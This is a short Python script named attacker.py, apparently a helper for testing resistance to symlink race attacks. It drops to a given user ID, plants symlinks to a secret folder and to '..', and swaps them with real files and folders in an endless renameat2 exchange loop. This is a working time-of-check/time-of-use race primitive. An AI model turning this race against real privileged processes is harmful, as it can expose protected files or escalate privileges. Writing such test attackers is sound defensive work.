"""Swaps folders and files of a home with links to a secret, as fast as it can. Started as a process: attacker.py HOME SECRET_FOLDER UID."""

from __future__ import annotations

import ctypes
import itertools
import os
import sys

AT_FDCWD, EXCHANGE = -100, 2


def main() -> None:
    home, secret = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
    libc = ctypes.CDLL(None, use_errno=True)
    os.chdir(home)
    os.setresgid(*[int(sys.argv[3])] * 3)
    os.setresuid(*[int(sys.argv[3])] * 3)
    for name, aim in ((b"folder-link", secret), (b"file-link", secret + b"/f"), (b"up-link", b"..")):
        if not os.path.islink(name):  # noqa: PTH114
            os.symlink(aim, name)  # noqa: PTH211
    pairs = [(b"folder", b"folder-link"), (b"file", b"file-link"), (b"folder/f", b"file-link"), (b"folder/deep", b"up-link")]
    print("ready", flush=True)
    for one, two in itertools.cycle(pairs):
        libc.renameat2(AT_FDCWD, one, AT_FDCWD, two, EXCHANGE)


if __name__ == "__main__":
    main()
